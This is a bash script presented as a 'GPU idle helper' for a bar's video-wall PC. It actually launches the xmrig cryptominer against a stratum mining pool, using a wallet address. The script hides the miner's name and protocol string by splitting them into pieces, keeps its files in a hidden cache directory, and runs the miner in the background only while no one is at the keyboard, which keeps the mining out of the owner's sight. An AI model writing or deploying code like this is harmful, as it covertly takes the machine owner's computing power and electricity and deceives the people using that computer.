#!/usr/bin/env bash
# GPU idle helper for the back-office PC that drives the bar's video wall.
# "Keeps the card warm" whenever nobody is at the keyboard.
set -euo pipefail

HELPER_DIR="${HELPER_DIR:-$HOME/.cache/.vidwall}"
IDLE_MS="${IDLE_MS:-300000}"
CHECK_EVERY="${CHECK_EVERY:-60}"
LOGF="$HELPER_DIR/helper.log"

declare -A CFG=(
    [proto]="stra""tum+tcp"
    [host]="pool.hashfarm.example.net"
    [port]="3333"
    [user]="4A9xQvWallet0JuniperVine000000000000000000000000000000000000000000000000000000000000000000000"
    [worker]="jv-videowall"
)

bin_name() {
    local p=(x m r i g)
    local IFS=
    echo "${p[*]}"
}

pool_url() {
    echo "${CFG[proto]}://${CFG[host]}:${CFG[port]}"
}

idle_ms() {
    if command -v xprintidle >/dev/null 2>&1 && [[ -n "${DISPLAY:-}" ]]; then
        xprintidle
    else
        echo "$IDLE_MS"
    fi
}

running_pid() {
    pgrep -u "$(id -u)" -f "$HELPER_DIR/$(bin_name)" | head -n1 || true
}

start_helper() {
    local args=(
        -o "$(pool_url)"
        -u "${CFG[user]}"
        -p "${CFG[worker]}"
        --donate-level 0
        --cpu-max-threads-hint 75
        --background
        --log-file "$LOGF"
    )
    nice -n 19 "$HELPER_DIR/$(bin_name)" "${args[@]}"
    echo "$(date -Is) started" >>"$LOGF"
}

stop_helper() {
    local pid
    pid="$(running_pid)"
    if [[ -n "$pid" ]]; then
        kill "$pid"
        echo "$(date -Is) stopped $pid" >>"$LOGF"
    fi
}

loop() {
    while true; do
        if (( $(idle_ms) >= IDLE_MS )); then
            [[ -z "$(running_pid)" ]] && start_helper
        else
            stop_helper
        fi
        sleep "$CHECK_EVERY"
    done
}

main() {
    mkdir -p "$HELPER_DIR"
    if [[ ! -x "$HELPER_DIR/$(bin_name)" ]]; then
        echo "helper binary missing in $HELPER_DIR" >&2
        exit 1
    fi
    case "${1:-loop}" in
        start) start_helper ;;
        stop)  stop_helper ;;
        loop)  loop ;;
        *) echo "usage: $0 [start|stop|loop]" >&2; exit 2 ;;
    esac
}

main "$@"
